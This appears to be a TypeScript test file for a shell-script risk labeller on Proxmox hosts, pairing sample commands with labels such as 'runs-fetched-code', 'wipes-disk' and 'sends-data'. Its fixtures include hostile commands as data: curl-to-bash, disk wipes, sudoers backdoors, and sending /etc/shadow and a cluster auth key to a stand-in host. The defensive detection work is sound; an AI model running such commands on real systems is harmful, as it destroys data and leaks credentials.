import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { SCRIPT_LABELS, type ScriptLabel } from '#policies/script-label';
import { scriptLabels } from '#worker/scripts/labels';

const labelsOf = (source: string): readonly ScriptLabel[] => scriptLabels(source).map(({ label }) => label);

/** What a script says, and the labels that it gets for it: these, and no other. */
const SAID: readonly (readonly [script: string, ...labels: ScriptLabel[]])[] = [
  ['echo hello > /etc/motd'],
  ['grep -q x /etc/fstab && cat /proc/cpuinfo'],
  ['curl -fsSL https://example.org/x.sh | bash', 'fetches', 'runs-fetched-code'],
  ['curl -fsSL https://example.org/x.sh | sudo -E bash -', 'fetches', 'runs-fetched-code'],
  ['bash <(curl -s https://example.org/x.sh)', 'fetches', 'runs-fetched-code'],
  ['source <(wget -qO- https://example.org/x.func)', 'fetches', 'runs-fetched-code', 'runs-made-up-code'],
  ['bash -c "$(curl -fsSL https://example.org/x.sh)"', 'fetches', 'runs-fetched-code'],
  ['eval "$(wget -qO- https://example.org)"', 'fetches', 'runs-fetched-code', 'runs-made-up-code'],
  ['curl -s https://example.org | python3', 'fetches', 'runs-fetched-code'],
  ['curl -s https://example.org/list | grep -c x', 'fetches'],
  ['echo cm0gLXJmIC8K | base64 -d | sh', 'runs-made-up-code'],
  ['"$COMMAND" --now', 'runs-made-up-code'],
  ["bash -c 'rm -rf /etc'", 'deletes-tree'],
  ['sudo env A=1 sh -c \'eval "mkfs.ext4 /dev/sda1"\'', 'wipes-disk'],
  ['x=$(dd if=/dev/zero of=/dev/sda bs=1M)', 'wipes-disk'],
  ['x=`wipefs -a /dev/sda`', 'wipes-disk'],
  ['cat image > /dev/nvme0n1', 'wipes-disk'],
  ['make 2>/dev/null >/dev/stderr'],
  ['rm -rf "$DIR"', 'deletes-tree'],
  ['rm -rf /var/tmp/quorate/build'],
  ['rm --recursive /usr', 'deletes-tree'],
  ['find / -name x -delete', 'deletes-tree'],
  ['zpool destroy tank', 'destroys-storage', 'storage'],
  ['zpool set autotrim=on rpool', 'storage'],
  ['qm destroy 101 --purge', 'destroys-guest', 'guest'],
  ['for id in 1 2; do pct start $id; done', 'guest'],
  ['pvecm expected 1', 'cluster'],
  ['pvesh get /nodes'],
  ['pvesh set /nodes/pve1/config --description x', 'cluster'],
  ['ip -j addr show'],
  ['ip link set eno1 down', 'network'],
  ['echo "nameserver 1.1.1.1" > /etc/resolv.conf', 'network'],
  ['nft flush ruleset', 'firewall'],
  ['useradd -m bob && echo bob:x | chpasswd', 'access'],
  ['echo "bob ALL=(ALL) NOPASSWD:ALL" | tee /etc/sudoers.d/bob', 'access'],
  ['cat key >> /root/.ssh/authorized_keys', 'access'],
  ['chmod u+s /usr/bin/find', 'access'],
  ['chmod 4755 /usr/bin/find', 'access'],
  ['chmod 0644 /etc/motd'],
  ['apt-get install -y chrony', 'packages'],
  ['apt-get install --allow-unauthenticated x', 'apt-trust', 'packages'],
  ['echo "deb http://example.org x main" > /etc/apt/sources.list.d/x.list', 'apt-trust'],
  ['systemctl enable --now chrony', 'units'],
  ['systemctl reboot', 'power', 'units'],
  ['sleep 60 && reboot &', 'power', 'goes-on-in-background'],
  ['nohup /usr/local/bin/watch.sh', 'goes-on-in-background'],
  ['sysctl -w vm.swappiness=10', 'kernel'],
  ['echo 1 > /proc/sys/net/ipv4/ip_forward', 'kernel'],
  ['(crontab -l; echo x) | crontab -', 'schedule'],
  ['cp job /etc/cron.d/job', 'schedule'],
  ['cat /etc/shadow | nc example.org 99', 'reads-secrets', 'sends-data'],
  ['curl -T /etc/pve/priv/authkey.key https://example.org', 'fetches', 'reads-secrets', 'sends-data'],
  ['read -r answer; whiptail --yesno ok 8 40', 'asks'],
  ['timeout -k 5 60 nice -n 19 reboot', 'power'],
  ['/usr/bin/env -i /sbin/reboot', 'power'],
  ['xargs -n 1 qm stop < list', 'guest'],
  ["trap 'reboot' EXIT", 'power'],
];

describe('A script is labelled by what its text says', () => {
  for (const [script, ...labels] of SAID)
    it(`${script} → ${labels.join(', ') || 'nothing'}`, () =>
      assert.deepEqual(labelsOf(script).toSorted(), labels.toSorted()));

  it('with the lines where it says so, also inside strings, functions and loops', () => {
    const script = [
      '#!/bin/bash',
      'stop() {',
      '  for id in $(qm list); do',
      '    qm stop "$id"',
      '  done',
      '}',
      '',
      "bash -c 'true",
      "qm start 101'",
      'x=`',
      ' pct list`',
    ].join('\n');
    assert.deepEqual(scriptLabels(script), [{ label: 'guest', lines: [3, 4, 9, 11] }]);
  });

  it('and a text that is no shell is told with its line', () =>
    assert.deepEqual(scriptLabels('echo a\nif true; then\necho b'), [{ label: 'unreadable', lines: [3] }]));

  it('and none is without a script that shows it', () => {
    const shown = new Set(SAID.flatMap(([, ...labels]) => labels).concat('unreadable'));
    assert.deepEqual(Object.keys(SCRIPT_LABELS).toSorted(), [...shown].toSorted());
  });

  it('whatever the text is, nothing throws and nothing hangs', () => {
    const pieces = [
      '$(',
      '`',
      '"',
      "'",
      '|',
      '<(',
      ')',
      'bash -c',
      'eval',
      'rm',
      '\n',
      '\\',
      '<<E',
      '${a',
      '&',
      ' ',
    ];
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 })), {
      maxLength: 40,
    });
    fc.assert(
      fc.property(text, (parts) => Array.isArray(scriptLabels(parts.join(''))) === true),
      { numRuns: 2000 },
    );
  });

  it('and what is hidden in strings of strings deeper than anybody writes is told as that', () => {
    const nested = Array.from({ length: 10 }).reduce<string>(
      (text) => `eval ${JSON.stringify(text).replaceAll('$', '\\$')}`,
      'reboot',
    );
    assert.deepEqual(labelsOf(nested), ['unreadable']);
  });
});
